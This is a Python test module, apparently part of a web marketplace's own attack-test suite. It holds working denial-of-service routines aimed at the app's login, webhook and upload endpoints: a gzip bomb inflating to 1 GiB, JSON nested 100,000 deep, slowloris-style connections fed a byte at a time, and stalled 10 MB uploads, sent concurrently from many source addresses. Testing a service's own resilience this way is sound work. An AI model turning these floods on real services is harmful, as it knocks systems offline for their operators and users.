"""Attacks by the bodies of requests: compressed, slow, nested, and never ending."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
import zlib

import aiohttp

from tests.attack.target import Report, Target, connect, read_status, request_head

_INFLATED_BYTES = 2**30
_CONNECTIONS = 20
_JSON = {"Content-Type": "application/json"}
_PATHS = ("/auth/login", "/webhooks/stripe")


def gzip_bomb() -> bytes:
    """Return about 1 MB of gzip that inflates to 1 GiB of zeros."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(2**20)
    parts = [compressor.compress(block) for _ in range(_INFLATED_BYTES // len(block))]
    return b"".join([*parts, compressor.flush()])


async def compressed(target: Target, report: Report) -> None:
    """Send compressed bodies that inflate to 1 GiB, from several addresses at once."""
    bomb = await asyncio.to_thread(gzip_bomb)
    ends_at = time.monotonic() + target.seconds

    async def attack(address: str, path: str) -> None:
        while time.monotonic() < ends_at:
            with contextlib.suppress(OSError):
                reader, writer = await connect(target, address)
                head = request_head(
                    "POST",
                    path,
                    content_type="application/json",
                    content_encoding="gzip",
                    content_length=str(len(bomb)),
                )
                writer.write(head + bomb)
                report.add(await read_status(reader))
                writer.transport.abort()
            await asyncio.sleep(0.05)

    addresses = target.addresses()
    await asyncio.gather(*(attack(next(addresses), path) for path in _PATHS for _ in range(2)))


async def nested(target: Target, report: Report) -> None:
    """Send JSON that is nested 100,000 deep, and integers of 100,000 digits."""
    bodies = (b"[" * 100_000, b'{"email": ' + b"9" * 100_000 + b"}", b'{"a":' * 100_000)
    ends_at = time.monotonic() + target.seconds

    async def attack(address: str) -> None:
        connector = aiohttp.TCPConnector(local_addr=(address, 0))
        async with aiohttp.ClientSession(target.base_url, connector=connector) as session:
            while time.monotonic() < ends_at:
                for body in bodies:
                    with contextlib.suppress(aiohttp.ClientError):
                        async with session.post("/auth/login", data=body, headers=_JSON) as answer:
                            report.add(str(answer.status))
                await asyncio.sleep(0.02)

    addresses = target.addresses()
    await asyncio.gather(*(attack(next(addresses)) for _ in range(4)))


async def slow(target: Target, report: Report) -> None:
    """Hold connections open with heads and bodies that never end, a byte at a time."""
    ends_at = time.monotonic() + target.seconds
    head = request_head("POST", "/webhooks/stripe", content_length="500000")
    starts = (b"POST /auth/login HTTP/1.1\r\nHost: market\r\n", head)

    async def attack(address: str, start: bytes) -> None:
        try:
            reader, writer = await connect(target, address)
            writer.write(start)
            answer = asyncio.ensure_future(read_status(reader))
            while not answer.done():
                if time.monotonic() >= ends_at:
                    report.add("still open")
                    answer.cancel()
                    writer.transport.abort()
                    return
                writer.write(b"a")
                await asyncio.wait([answer], timeout=0.5)
            report.add(answer.result())
            writer.transport.abort()
        except OSError:
            report.add("closed")

    addresses = list(itertools.islice(target.addresses(), 10))
    calls = [attack(each, start) for each in addresses for start in starts for _ in range(25)]
    await asyncio.gather(*calls)


async def stalled_uploads(target: Target, report: Report) -> None:
    """Announce pictures of 10 MB, send almost all of each, and stall."""
    size = 10 * 2**20
    announced: list[str] = []
    headers = {"Authorization": f"Bearer {target.attacker_token}"}
    async with aiohttp.ClientSession(target.base_url, headers=headers) as session:
        for _ in range(50):
            wish = {"content_type": "image/png", "size": size}
            async with session.post(f"/listings/{target.listing_id}/images", json=wish) as answer:
                report.add(f"announced {answer.status}")
                if answer.status == 201:
                    announced.append((await answer.json())["upload"]["url"])
    ends_at = time.monotonic() + target.seconds

    async def attack(url: str, address: str) -> None:
        path = url[url.index("/media/") :]
        try:
            reader, writer = await connect(target, address)
            head = request_head("PUT", path, content_type="image/png", content_length=str(size))
            writer.write(head + bytes(size - 1024))
            async with asyncio.timeout(max(0.0, ends_at - time.monotonic())):
                report.add(await read_status(reader))
        except TimeoutError:
            report.add("still open")
        except OSError:
            report.add("closed")
        else:
            writer.transport.abort()

    await asyncio.gather(*map(attack, announced, target.addresses()))
